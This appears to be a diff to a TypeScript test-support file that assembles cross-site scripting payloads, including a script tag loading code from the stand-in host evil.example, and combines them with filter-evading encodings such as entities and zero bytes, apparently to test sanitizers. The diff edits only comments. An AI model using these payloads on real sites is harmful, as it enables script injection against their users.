@@ -1,11 +1,11 @@
 import { combine, type HostileText } from './hostile-text.ts';
 
-/** Property that a script sets on the global object if it runs. Nothing else has this name. */
+/** Property that an injected script sets on the global object when it runs. Nothing else has this name. */
 export const SCRIPT_MARK = '__hostileScriptRan';
 
 const run = `window.${SCRIPT_MARK}=1`;
 
-/** Ways in which HTML, SVG, CSS or a template runs a script that was meant as text. */
+/** Texts that run as a script if a page inserts them as HTML, SVG, CSS or a template. */
 const classes: readonly HostileText[] = [
   ['a script element', `<script>${run}</script>`],
   ['a script element with an address', '<script src=//evil.example/x.js></script>'],
@@ -72,7 +72,7 @@ const classes: readonly HostileText[] = [
 const entity = (format: (code: number) => string) => (text: string) =>
   text.replaceAll(/[<>"'&:]/g, (letter) => format(letter.codePointAt(0) ?? 0));
 
-/** Ways to write the same text so that a filter for '<' or 'script' misses it. */
+/** Encodings that a filter for '<' or 'script' may overlook. */
 const disguises: readonly [title: string, write: (text: string) => string][] = [
   ['as it is', (text) => text],
   [
@@ -91,5 +91,5 @@ const disguises: readonly [title: string, write: (text: string) => string][] = [
   ['with zero bytes', (text) => text.replaceAll('<', '<\0')],
 ];
 
-/** Every way to inject a script, in every disguise. */
+/** Every injection in every encoding. */
 export const scriptInjections: readonly HostileText[] = combine(classes, disguises);
